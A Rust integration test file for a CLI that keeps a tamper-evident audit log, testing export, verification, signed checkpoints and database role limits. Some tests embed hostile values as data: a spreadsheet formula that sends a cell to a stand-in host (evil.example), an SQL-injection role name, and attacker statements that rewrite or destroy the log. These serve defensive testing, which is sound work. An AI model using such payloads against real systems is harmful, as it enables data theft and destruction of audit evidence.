//! The `zt` command, run as a process against real SQLite files and the
//! throwaway PostgreSQL server.
// Tests unwrap: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use assert_cmd::Command;
use zt_audit::{AuditLog, ChainKey};
use zt_db::{DatabaseUrl, Pool, PoolConfig};
use zt_testkit::{Backend, TestDatabase};
use zt_types::{Actor, AuditEvent, AuditStatus, RequestContext, Timestamp, UserId};

const KEY_HEX: &str = "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f";

fn zt(db: &TestDatabase) -> Command {
    let mut command = Command::cargo_bin("zt").unwrap();
    command
        .env("DATABASE_URL", db.url())
        .env("ZT_AUDIT_KEY", KEY_HEX)
        .timeout(Duration::from_secs(300));
    command
}

fn log(db: &TestDatabase) -> AuditLog {
    let url: DatabaseUrl = db.url().parse().unwrap();
    AuditLog::new(
        Pool::connect_with(&url, &PoolConfig::new()).unwrap(),
        &ChainKey::parse(KEY_HEX).unwrap(),
    )
}

fn event(user: &str, action: &str, ago: Duration) -> AuditEvent {
    AuditEvent::builder(Actor::user(UserId::parse(user).unwrap(), None), action, "projects")
        .resource_id(7)
        .context(&RequestContext::new().with_ip("203.0.113.9".parse().unwrap()))
        .status(AuditStatus::Success)
        .created_at(Timestamp::now().saturating_sub(ago))
        .build()
        .unwrap()
}

fn stdout(command: &mut Command) -> String {
    let output = command.output().unwrap();
    assert!(
        output.status.success(),
        "{:?}: {}",
        command,
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// A new Ed25519 key pair from `zt audit keygen`, named `name` in the
/// test's scratch directory: (signing key, public key).
fn keygen(db: &TestDatabase, name: &str) -> (std::path::PathBuf, std::path::PathBuf) {
    let dir = db.scratch_dir();
    let (secret, public) = (dir.join(format!("{name}.key")), dir.join(format!("{name}.pub")));
    stdout(
        zt(db)
            .args(["audit", "keygen", "--signing-key"])
            .arg(&secret)
            .arg("--public-key")
            .arg(&public),
    );
    (secret, public)
}

/// Runs `sql` on the audit log as an attacker with superuser access would:
/// with the append-only `trigger` dropped (SQLite) or every user trigger
/// disabled (PostgreSQL).
fn as_attacker(db: &TestDatabase, sqlite_trigger: &str, sql: &str) {
    use diesel::{Connection, RunQueryDsl};
    match db.backend() {
        Backend::Sqlite => {
            let mut conn = diesel::SqliteConnection::establish(db.url().trim_start_matches("sqlite://")).unwrap();
            diesel::sql_query(format!("DROP TRIGGER {sqlite_trigger}"))
                .execute(&mut conn)
                .unwrap();
            diesel::sql_query(sql).execute(&mut conn).unwrap();
        }
        Backend::Postgres => {
            let mut conn = diesel::PgConnection::establish(db.url()).unwrap();
            diesel::sql_query("ALTER TABLE audit_logs DISABLE TRIGGER USER")
                .execute(&mut conn)
                .unwrap();
            diesel::sql_query(sql).execute(&mut conn).unwrap();
        }
    }
}

fn migrate_and_query(db: &TestDatabase) {
    let first = stdout(zt(db).arg("migrate"));
    assert!(first.contains("applied"), "{first}");
    let second = stdout(zt(db).arg("migrate"));
    assert!(second.contains("up to date"), "{second}");

    let log = log(db);
    log.record(&event("42", "CREATE_PROJECT", Duration::from_secs(3600)))
        .unwrap();
    log.record(&event("42", "DELETE_PROJECT", Duration::from_secs(60)))
        .unwrap();
    log.record(&event("42", "OLD_THING", Duration::from_secs(3 * 86_400)))
        .unwrap();
    log.record(&event("7", "CREATE_PROJECT", Duration::from_secs(60)))
        .unwrap();

    // The example: a readable table.
    let table = stdout(zt(db).args(["audit", "query", "--user", "42", "--since", "24h", "--format", "table"]));
    let lines: Vec<&str> = table.lines().collect();
    assert!(
        lines[0].starts_with("ID") && lines[0].contains("ACTION") && lines[0].contains("CLIENT IP"),
        "{table}"
    );
    assert_eq!(lines.len(), 4, "{table}");
    assert!(
        lines[1].contains("CREATE_PROJECT") && lines[2].contains("DELETE_PROJECT"),
        "{table}"
    );
    assert!(
        lines[1].contains("projects/7") && lines[1].contains("203.0.113.9"),
        "{table}"
    );
    assert_eq!(lines[3], "2 of 2 matching rows");

    // Piped, the default is JSON Lines.
    let jsonl = stdout(zt(db).args(["audit", "query", "--user", "42"]));
    let rows: Vec<serde_json::Value> = jsonl.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0]["action"], "OLD_THING");

    let json = stdout(zt(db).args([
        "audit",
        "query",
        "--action",
        "CREATE_PROJECT",
        "--newest-first",
        "--format",
        "json",
    ]));
    let rows: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
    assert_eq!(
        rows.iter().map(|r| r["user_id"].as_str().unwrap()).collect::<Vec<_>>(),
        ["7", "42"]
    );

    let csv = stdout(zt(db).args([
        "audit",
        "query",
        "--ip",
        "203.0.113.0/24",
        "--limit",
        "2",
        "--format",
        "csv",
    ]));
    let lines: Vec<&str> = csv.lines().collect();
    assert!(lines[0].starts_with("id,created_at,actor_kind,user_id"), "{csv}");
    assert_eq!(lines.len(), 3);

    let none = stdout(zt(db).args(["audit", "query", "--status", "denied", "--format", "jsonl"]));
    assert!(none.is_empty());
}

fn export_streams_every_row(db: &TestDatabase) {
    stdout(zt(db).arg("migrate"));
    let log = log(db);
    let events: Vec<AuditEvent> = (0..2500)
        .map(|i| event(&(i % 3).to_string(), "EXPORTED", Duration::from_secs(i)))
        .collect();
    log.record_batch(&events).unwrap();
    let dir = db.scratch_dir();
    let jsonl = dir.join("out.jsonl");
    zt(db)
        .args(["audit", "export", "--format", "jsonl", "--output"])
        .arg(&jsonl)
        .assert()
        .success();
    assert_eq!(std::fs::read_to_string(&jsonl).unwrap().lines().count(), 2500);
    let csv = stdout(zt(db).args(["audit", "export", "--format", "csv", "--user", "1"]));
    assert_eq!(csv.lines().count(), 1 + (0..2500).filter(|i| i % 3 == 1).count());
}

fn verify_names_the_tampered_row_of_a_large_log(db: &TestDatabase) {
    stdout(zt(db).arg("migrate"));
    let log = log(db);
    let total = 100_000u64;
    let mut batch = Vec::with_capacity(5000);
    for i in 0..total {
        batch.push(event(&(i % 100).to_string(), "BULK", Duration::from_secs(total - i)));
        if batch.len() == 5000 {
            log.record_batch(&batch).unwrap();
            batch.clear();
        }
    }
    let ok = stdout(zt(db).args(["audit", "verify"]));
    assert!(ok.starts_with("OK: 100000 rows in 1 chain(s) verified"), "{ok}");

    let raw = |sql: &str| match db.backend() {
        Backend::Sqlite => {
            use diesel::{Connection, RunQueryDsl};
            let mut conn = diesel::SqliteConnection::establish(db.url().trim_start_matches("sqlite://")).unwrap();
            diesel::sql_query(sql).execute(&mut conn).unwrap();
        }
        Backend::Postgres => {
            use diesel::{Connection, RunQueryDsl};
            let mut conn = diesel::PgConnection::establish(db.url()).unwrap();
            diesel::sql_query(sql).execute(&mut conn).unwrap();
        }
    };
    match db.backend() {
        Backend::Sqlite => raw("DROP TRIGGER audit_logs_no_update"),
        Backend::Postgres => raw("ALTER TABLE audit_logs DISABLE TRIGGER USER"),
    }
    raw("UPDATE audit_logs SET user_id = '0' WHERE id = 54321");
    let output = zt(db).args(["audit", "verify"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(
        text.starts_with("TAMPERED: chain ") && text.contains(" position 54321: modified"),
        "{text}"
    );

    let json = zt(db).args(["audit", "verify", "--json"]).output().unwrap();
    let report: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(report["finding"]["position"], 54321);
    assert_eq!(report["finding"]["kind"], "modified");
}

fn checkpoints_catch_truncation(db: &TestDatabase) {
    stdout(zt(db).arg("migrate"));
    let log = log(db);
    for i in 0..10 {
        log.record(&event("1", "STEP", Duration::from_secs(100 - i))).unwrap();
    }
    let dir = db.scratch_dir();
    let (secret, public, chain, checkpoint) = (
        dir.join("signing.key"),
        dir.join("signing.pub"),
        dir.join("chain.key"),
        dir.join("checkpoint.json"),
    );
    zt(db)
        .args(["audit", "keygen", "--signing-key"])
        .arg(&secret)
        .arg("--public-key")
        .arg(&public)
        .assert()
        .success();
    zt(db)
        .args(["audit", "keygen", "--chain-key"])
        .arg(&chain)
        .assert()
        .success();
    let again = zt(db)
        .args(["audit", "keygen", "--chain-key"])
        .arg(&chain)
        .output()
        .unwrap();
    assert_eq!(
        again.status.code(),
        Some(2),
        "an existing key file is never overwritten"
    );

    zt(db)
        .args(["audit", "checkpoint", "--signing-key"])
        .arg(&secret)
        .arg("--out")
        .arg(&checkpoint)
        .assert()
        .success();
    let verify_with_checkpoint = |db: &TestDatabase| {
        zt(db)
            .args(["audit", "verify", "--checkpoint"])
            .arg(&checkpoint)
            .arg("--public-key")
            .arg(&public)
            .output()
            .unwrap()
    };
    let ok = verify_with_checkpoint(db);
    assert!(ok.status.success());
    assert!(String::from_utf8_lossy(&ok.stdout).contains("matches the signed checkpoint"));

    as_attacker(db, "audit_logs_no_delete", "DELETE FROM audit_logs WHERE id > 7");
    let tampered = verify_with_checkpoint(db);
    assert_eq!(tampered.status.code(), Some(1));
    let text = String::from_utf8_lossy(&tampered.stdout);
    assert!(text.contains("position 8: truncated_after_checkpoint"), "{text}");
}

/// `checkpoint --dir`, `verify --checkpoints DIR` (the newest) and
/// `verify --from-checkpoint FILE` (only the rows since), and the plain
/// warning of a verification without any.
fn checkpoint_directories_and_incremental_verification(db: &TestDatabase) {
    stdout(zt(db).arg("migrate"));
    let log = log(db);
    for i in 0..10 {
        log.record(&event("1", "STEP", Duration::from_secs(100 - i))).unwrap();
    }
    let dir = db.scratch_dir();
    let kept = dir.join("checkpoints");
    let (secret, public) = keygen(db, "cp");
    let plain = stdout(zt(db).args(["audit", "verify"]));
    assert!(
        plain.contains("rows cut from the end of a chain") && plain.contains("would go unseen"),
        "{plain}"
    );

    let checkpoint = |db: &TestDatabase| {
        let said = stdout(
            zt(db)
                .args(["audit", "checkpoint", "--signing-key"])
                .arg(&secret)
                .arg("--dir")
                .arg(&kept),
        );
        said.trim().rsplit(' ').next().unwrap().to_owned()
    };
    let first = checkpoint(db);
    for i in 10..14 {
        log.record(&event("1", "STEP", Duration::from_secs(100 - i))).unwrap();
    }
    let second = checkpoint(db);
    assert_ne!(first, second);

    let newest = stdout(
        zt(db)
            .args(["audit", "verify", "--checkpoints"])
            .arg(&kept)
            .arg("--public-key")
            .arg(&public),
    );
    assert!(
        newest.contains("OK: 14 rows") && newest.contains("matches the signed checkpoint"),
        "{newest}"
    );
    assert!(!newest.contains("would go unseen"), "{newest}");

    let since = stdout(
        zt(db)
            .args(["audit", "verify", "--from-checkpoint"])
            .arg(&first)
            .arg("--public-key")
            .arg(&public),
    );
    assert!(
        since.contains("OK: 4 rows") && since.contains("after the signed checkpoint"),
        "{since}"
    );

    // A checkpoint file that is not one, or a key that did not sign it.
    std::fs::write(dir.join("bogus.json"), "{}").unwrap();
    let bogus = zt(db)
        .args(["audit", "verify", "--from-checkpoint"])
        .arg(dir.join("bogus.json"))
        .arg("--public-key")
        .arg(&public)
        .output()
        .unwrap();
    assert_eq!(bogus.status.code(), Some(2));
    let (_, other_public) = keygen(db, "other");
    let stranger = zt(db)
        .args(["audit", "verify", "--checkpoints"])
        .arg(&kept)
        .arg("--public-key")
        .arg(&other_public)
        .output()
        .unwrap();
    assert_eq!(stranger.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&stranger.stdout).contains("bad_checkpoint_signature"));
}

fn errors_are_one_line_with_exit_code_2(db: &TestDatabase) {
    let cases: Vec<Vec<String>> = vec![
        vec![
            "audit".into(),
            "query".into(),
            "--database-url".into(),
            "mysql://x".into(),
        ],
        vec![
            "audit".into(),
            "query".into(),
            "--database-url".into(),
            "postgres://nobody@127.0.0.1:1/none".into(),
        ],
        vec![
            "audit".into(),
            "query".into(),
            "--database-url".into(),
            "sqlite:///nonexistent/dir/zt.db".into(),
        ],
        vec!["audit".into(), "query".into(), "--since".into(), "yesterday".into()],
        vec!["audit".into(), "query".into(), "--ip".into(), "10.0.0.0/99".into()],
        vec!["codes".into(), "show".into(), "NO_SUCH_CODE".into()],
    ];
    stdout(zt(db).arg("migrate"));
    for args in cases {
        let output = zt(db).args(&args).output().unwrap();
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert_eq!(stderr.lines().count(), 1, "{args:?}: {stderr}");
        assert!(stderr.starts_with("zt: error: "), "{args:?}: {stderr}");
        assert!(
            !stderr.contains("panicked") && !stderr.contains("backtrace"),
            "{stderr}"
        );
    }
    let no_key = zt(db)
        .env_remove("ZT_AUDIT_KEY")
        .args(["audit", "verify"])
        .output()
        .unwrap();
    assert_eq!(no_key.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&no_key.stderr).contains("--key-file"));
}

fn migrate_only_one_set(db: &TestDatabase) {
    let pool = Pool::connect_with(&db.url().parse().unwrap(), &PoolConfig::new()).unwrap();
    let audit = stdout(zt(db).args(["migrate", "--only", "audit"]));
    assert!(
        audit.contains("audit: applied 20261129000001, 20261130000001, 20261130000004"),
        "{audit}"
    );
    assert!(!audit.contains("sessions"), "{audit}");
    assert!(pool.pending_migrations(&zt_audit::MIGRATIONS).unwrap().is_empty());
    assert_eq!(
        pool.pending_migrations(&zt_session::MIGRATIONS).unwrap(),
        ["20261129000002", "20261130000002"]
    );

    let sessions = stdout(zt(db).args(["migrate", "--only=sessions"]));
    assert!(
        sessions.contains("sessions: applied 20261129000002, 20261130000002"),
        "{sessions}"
    );
    assert!(!sessions.contains("audit"), "{sessions}");
    assert_eq!(
        pool.applied_migrations(&zt_session::MIGRATIONS).unwrap(),
        ["20261129000002", "20261130000002"]
    );

    let both = stdout(zt(db).arg("migrate"));
    assert!(
        both.contains("audit: up to date") && both.contains("sessions: up to date"),
        "{both}"
    );

    let bad = zt(db).args(["migrate", "--only", "everything"]).output().unwrap();
    assert_eq!(bad.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&bad.stderr);
    assert!(
        stderr.contains("invalid value 'everything'") && stderr.contains("audit") && stderr.contains("sessions"),
        "{stderr}"
    );
}

/// A visitor writes a formula into their user agent and request id, and
/// terminal escapes and a right-to-left override besides: the CSV an
/// investigator opens shows them as text; the JSON export stays exact.
fn csv_exports_are_spreadsheet_safe(db: &TestDatabase) {
    stdout(zt(db).arg("migrate"));
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\u{1b}[2J\u{202e}gpj.exe";
    let event = AuditEvent::builder(Actor::Anonymous, "NEWSLETTER_SIGNUP", "newsletter")
        .context(
            &RequestContext::new()
                .with_user_agent(hostile)
                .with_request_id(zt_types::RequestId::parse("+SUM(1,2)").unwrap()),
        )
        .status(AuditStatus::Success)
        .build()
        .unwrap();
    log(db).record(&event).unwrap();

    let csv = stdout(zt(db).args(["audit", "export", "--format", "csv"]));
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[headers.iter().position(|header| header == name).unwrap()].to_owned();
    assert!(cell("user_agent").starts_with("'=HYPERLINK("), "{}", cell("user_agent"));
    assert!(
        cell("user_agent").contains("\\u{001b}[2J\\u{202e}gpj.exe"),
        "{}",
        cell("user_agent")
    );
    assert_eq!(cell("request_id"), "'+SUM(1,2)");
    assert!(!csv.contains('\u{1b}') && !csv.contains('\u{202e}'), "{csv:?}");

    let json = stdout(zt(db).args(["audit", "export", "--format", "jsonl"]));
    let exported: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
    assert_eq!(exported["user_agent"], hostile, "JSON keeps the stored value exactly");
}

/// `export -o` never replaces a file, perhaps a key, unless asked, and
/// creates its file readable by its owner only.
fn export_keeps_existing_files_unless_forced(db: &TestDatabase) {
    use std::os::unix::fs::PermissionsExt;
    stdout(zt(db).arg("migrate"));
    log(db).record(&event("1", "STEP", Duration::from_secs(1))).unwrap();
    let key = db.scratch_dir().join("chain.key");
    std::fs::write(&key, KEY_HEX).unwrap();
    let refused = zt(db).args(["audit", "export", "-o"]).arg(&key).output().unwrap();
    assert_eq!(refused.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("pass --force"));
    assert_eq!(std::fs::read_to_string(&key).unwrap(), KEY_HEX, "the key is intact");

    let out = db.scratch_dir().join("evidence.jsonl");
    stdout(zt(db).args(["audit", "export", "-o"]).arg(&out));
    let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "{mode:o}");
    stdout(zt(db).args(["audit", "export", "--force", "-o"]).arg(&key));
    assert!(std::fs::read_to_string(&key).unwrap().contains("\"STEP\""));
}

/// A careless operator: a placeholder key, a key file others can read, a
/// checkpoint written over an existing file, an absurd time, and a reader
/// that goes away early.
fn careless_operators_get_clear_refusals(db: &TestDatabase) {
    use std::os::unix::fs::PermissionsExt;
    stdout(zt(db).arg("migrate"));
    let log = log(db);
    for i in 0..300 {
        log.record(&event("1", "STEP", Duration::from_secs(1_000 - i))).unwrap();
    }
    let refused = |command: &mut Command, expected: &str| {
        let output = command.output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{command:?}: {stderr}");
        assert!(stderr.contains(expected), "{command:?}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "{stderr}");
    };
    // A key of one repeated byte has no entropy.
    refused(
        zt(db).env("ZT_AUDIT_KEY", "00".repeat(32)).args(["audit", "verify"]),
        "no entropy",
    );
    // A key file its group or others can read is refused, naming the fix.
    let dir = db.scratch_dir();
    let key_file = dir.join("shared.key");
    std::fs::write(&key_file, KEY_HEX).unwrap();
    std::fs::set_permissions(&key_file, std::fs::Permissions::from_mode(0o644)).unwrap();
    refused(
        zt(db).args(["audit", "verify", "--key-file"]).arg(&key_file),
        "chmod 600",
    );
    std::fs::set_permissions(&key_file, std::fs::Permissions::from_mode(0o600)).unwrap();
    stdout(zt(db).args(["audit", "verify", "--key-file"]).arg(&key_file));

    // A checkpoint never replaces a file unless asked.
    let existing = dir.join("notes.txt");
    let (secret, _) = keygen(db, "sign");
    std::fs::write(&existing, "keep me").unwrap();
    refused(
        zt(db)
            .args(["audit", "checkpoint", "--signing-key"])
            .arg(&secret)
            .arg("--out")
            .arg(&existing),
        "pass --force",
    );
    assert_eq!(std::fs::read_to_string(&existing).unwrap(), "keep me");
    stdout(
        zt(db)
            .args(["audit", "checkpoint", "--force", "--signing-key"])
            .arg(&secret)
            .arg("--out")
            .arg(&existing),
    );
    assert!(std::fs::read_to_string(&existing).unwrap().contains("signature"));

    // Times: bounded, and the error lists the accepted forms.
    for since in ["99999999999d", "18446744073709551615s", "last tuesday"] {
        refused(zt(db).args(["audit", "query", "--since", since]), "such as 90s");
    }

    // A reader that stops early (`| head -1`) ends every format quietly.
    for format in ["jsonl", "json", "csv", "table"] {
        let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("zt"))
            .env("DATABASE_URL", db.url())
            .args(["audit", "query", "--limit", "300", "--format", format])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // Close the read end at once: every write then meets a broken pipe.
        drop(child.stdout.take());
        let output = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{format}: {stderr}");
        assert!(stderr.is_empty(), "{format}: {stderr}");
    }
}

/// `zt migrate --runtime-role`: the app's role may add and read audit rows,
/// and nothing else: not update, delete, truncate, or turn the triggers off.
fn the_runtime_role_cannot_rewrite_history(db: &TestDatabase) {
    use diesel::{Connection, RunQueryDsl};
    if db.backend() == Backend::Sqlite {
        let output = zt(db).args(["migrate", "--runtime-role", "app_rt"]).output().unwrap();
        assert_eq!(output.status.code(), Some(2));
        assert!(String::from_utf8_lossy(&output.stderr).contains("SQLite has no roles"));
        return;
    }
    // Roles belong to the cluster, shared by every test database: one name each.
    let unique = db
        .url()
        .rsplit('/')
        .next()
        .unwrap()
        .trim_start_matches("zt_test_")
        .to_owned();
    let role = format!("rt_{unique}");
    let granted = stdout(zt(db).args(["migrate", "--runtime-role", &role]));
    assert!(granted.contains("TABLE audit_logs: SELECT, INSERT"), "{granted}");

    let mut conn = diesel::PgConnection::establish(db.url()).unwrap();
    diesel::sql_query(format!("SET ROLE {role}"))
        .execute(&mut conn)
        .unwrap();
    // What the app does works under the role: the first write creates a head
    // and takes an id from the sequence.
    let log = log(db);
    log.record_in(&mut conn, &event("1", "UNDER_ROLE", Duration::from_secs(1)))
        .unwrap();
    for attack in [
        "UPDATE audit_logs SET action = 'FORGED'",
        "DELETE FROM audit_logs",
        "TRUNCATE audit_logs",
        "ALTER TABLE audit_logs DISABLE TRIGGER USER",
        "DROP TABLE audit_logs",
        "ALTER TABLE audit_logs OWNER TO CURRENT_USER",
    ] {
        let error = diesel::sql_query(attack).execute(&mut conn).unwrap_err().to_string();
        assert!(
            error.contains("permission denied") || error.contains("must be owner"),
            "{attack}: {error}"
        );
    }
    diesel::sql_query("RESET ROLE").execute(&mut conn).unwrap();
    stdout(zt(db).args(["audit", "verify"]));

    // Running it again is harmless; a superuser or a table owner is refused.
    stdout(zt(db).args(["migrate", "--runtime-role", &role]));
    let superuser = zt(db).args(["migrate", "--runtime-role", "postgres"]).output().unwrap();
    assert_eq!(superuser.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&superuser.stderr).contains("superuser"));
    let owner = format!("own_{unique}");
    diesel::sql_query(format!("CREATE ROLE {owner}"))
        .execute(&mut conn)
        .unwrap();
    diesel::sql_query(format!("ALTER TABLE audit_logs OWNER TO {owner}"))
        .execute(&mut conn)
        .unwrap();
    let owns = zt(db).args(["migrate", "--runtime-role", &owner]).output().unwrap();
    assert_eq!(owns.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&owns.stderr).contains("owns audit_logs"));

    // Printed, it touches nothing and needs no database.
    let printed =
        stdout(
            zt(db)
                .env_remove("DATABASE_URL")
                .args(["migrate", "--runtime-role", "app_rt", "--print-sql"]),
        );
    assert!(
        printed.contains("GRANT SELECT, INSERT ON TABLE audit_logs TO app_rt;"),
        "{printed}"
    );
    let bad = zt(db)
        .args(["migrate", "--runtime-role", "x; DROP TABLE audit_logs"])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));

    diesel::sql_query("ALTER TABLE audit_logs OWNER TO CURRENT_USER")
        .execute(&mut conn)
        .unwrap();
    for name in [&role, &owner] {
        diesel::sql_query(format!("DROP OWNED BY {name}"))
            .execute(&mut conn)
            .unwrap();
        diesel::sql_query(format!("DROP ROLE {name}"))
            .execute(&mut conn)
            .unwrap();
    }
}

/// `zt audit archive`, `verify --archive` without a database, `prune`, and
/// `erase`.
fn archive_prune_and_erase(db: &TestDatabase) {
    stdout(zt(db).arg("migrate"));
    let log = log(db);
    let day = Duration::from_secs(86_400);
    for i in 0..6 {
        log.record(&event("1", "OLD", day * (400 - i))).unwrap();
    }
    for i in 0..4 {
        log.record(&event("1", "NEW", day * (4 - i))).unwrap();
    }
    let dir = db.scratch_dir();
    let archive = dir.join("2025.jsonl.zst");
    let (secret, public) = keygen(db, "cp");
    let archived = stdout(
        zt(db)
            .args(["audit", "archive", "--before", "365d", "--signing-key"])
            .arg(&secret)
            .arg("--out")
            .arg(&archive),
    );
    assert!(
        archived.contains("archived 6 rows") && archived.contains("verified"),
        "{archived}"
    );
    let bytes = std::fs::read(&archive).unwrap();
    assert_eq!(&bytes[..4], &[0x28, 0xb5, 0x2f, 0xfd], "zstd, by the name");

    let alone = stdout(
        zt(db)
            .env_remove("DATABASE_URL")
            .args(["audit", "verify", "--archive"])
            .arg(&archive)
            .arg("--public-key")
            .arg(&public),
    );
    assert!(alone.contains("OK: 6 rows"), "{alone}");

    // An archive reaching past the cut asked for prunes nothing.
    let too_far = zt(db)
        .args(["audit", "prune", "--before", "500d", "--archive"])
        .arg(&archive)
        .arg("--public-key")
        .arg(&public)
        .output()
        .unwrap();
    assert_eq!(too_far.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&too_far.stderr).contains("nothing was deleted"));

    let pruned = stdout(
        zt(db)
            .args(["audit", "prune", "--before", "365d", "--archive"])
            .arg(&archive)
            .arg("--public-key")
            .arg(&public),
    );
    assert!(pruned.contains("pruned 6 rows"), "{pruned}");
    let after = stdout(zt(db).args(["audit", "verify"]));
    assert!(
        after.contains("OK: 5 rows"),
        "four kept and the prune's own event: {after}"
    );
    let events = stdout(zt(db).args(["audit", "query", "--format", "jsonl", "--action", "AUDIT_PRUNE"]));
    assert_eq!(events.lines().count(), 1, "{events}");

    // A user's personal data leaves; the log still verifies.
    let erased = stdout(zt(db).args(["audit", "erase", "--user", "1"]));
    assert!(erased.contains("erased the personal data of 4 row(s)"), "{erased}");
    let rows = stdout(zt(db).args(["audit", "query", "--format", "jsonl", "--user", "1"]));
    assert!(!rows.contains("203.0.113.9"), "{rows}");
    let after = stdout(zt(db).args(["audit", "verify"]));
    assert!(after.contains("OK: 6 rows"), "and the erasure's own event: {after}");

    // A damaged archive is an error, not a verdict.
    let mut damaged = bytes.clone();
    let middle = damaged.len() / 2;
    damaged[middle] ^= 0xff;
    std::fs::write(dir.join("damaged.jsonl.zst"), &damaged).unwrap();
    let broken = zt(db)
        .args(["audit", "verify", "--archive"])
        .arg(dir.join("damaged.jsonl.zst"))
        .arg("--public-key")
        .arg(&public)
        .output()
        .unwrap();
    assert_ne!(broken.status.code(), Some(0));
}

/// The walk-through, on a SQLite file and on PostgreSQL: checkpoint,
/// archive everything, prune it, verify; then one remaining row changed.
fn checkpoint_archive_prune_verify_then_tamper(db: &TestDatabase) {
    stdout(zt(db).arg("migrate"));
    let log = log(db);
    for i in 0..8 {
        log.record(&event("2", "STEP", Duration::from_secs(60 - i))).unwrap();
    }
    let dir = db.scratch_dir();
    let (secret, _) = keygen(db, "cp");
    stdout(
        zt(db)
            .args(["audit", "checkpoint", "--signing-key"])
            .arg(&secret)
            .arg("--out")
            .arg(dir.join("cp.json")),
    );
    let archive = dir.join("a.jsonl");
    let archived = stdout(
        zt(db)
            .args(["audit", "archive", "--before", "0s", "--out"])
            .arg(&archive),
    );
    assert!(
        archived.contains("archived 8 rows") && archived.contains("one-time key"),
        "{archived}"
    );
    let pruned = stdout(
        zt(db)
            .args(["audit", "prune", "--before", "0s", "--archive"])
            .arg(&archive),
    );
    assert!(pruned.contains("pruned 8 rows"), "{pruned}");
    let verified = zt(db).args(["audit", "verify"]).output().unwrap();
    assert_eq!(
        verified.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&verified.stdout)
    );
    let alone = stdout(
        zt(db)
            .env_remove("DATABASE_URL")
            .args(["audit", "verify", "--archive"])
            .arg(&archive),
    );
    assert!(alone.contains("OK: 8 rows"), "{alone}");

    // One remaining row (the prune's own event), changed with the triggers gone.
    as_attacker(db, "audit_logs_no_update", "UPDATE audit_logs SET action = 'FORGED'");
    let tampered = zt(db).args(["audit", "verify"]).output().unwrap();
    assert_eq!(
        tampered.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&tampered.stdout)
    );
}

zt_testkit::backend_tests!(
    always:
    archive_prune_and_erase,
    checkpoint_archive_prune_verify_then_tamper,
    checkpoint_directories_and_incremental_verification,
    the_runtime_role_cannot_rewrite_history,
    careless_operators_get_clear_refusals,
    csv_exports_are_spreadsheet_safe,
    export_keeps_existing_files_unless_forced,
    migrate_only_one_set,
    migrate_and_query,
    export_streams_every_row,
    verify_names_the_tampered_row_of_a_large_log,
    checkpoints_catch_truncation,
    errors_are_one_line_with_exit_code_2,
);

#[test]
fn codes_are_listed_and_shown() {
    let list = Command::cargo_bin("zt")
        .unwrap()
        .args(["codes", "list", "--format", "jsonl"])
        .output()
        .unwrap();
    assert!(list.status.success());
    let codes: Vec<serde_json::Value> = String::from_utf8(list.stdout)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(codes.len(), zt_error_codes::ErrorCode::ALL.len());

    let show = Command::cargo_bin("zt")
        .unwrap()
        .args(["codes", "show", "session_revoked"])
        .output()
        .unwrap();
    let text = String::from_utf8(show.stdout).unwrap();
    assert!(text.starts_with("SESSION_REVOKED\n"), "{text}");
    assert!(
        text.contains("HTTP status:     401") && text.contains("what to do:"),
        "{text}"
    );
}
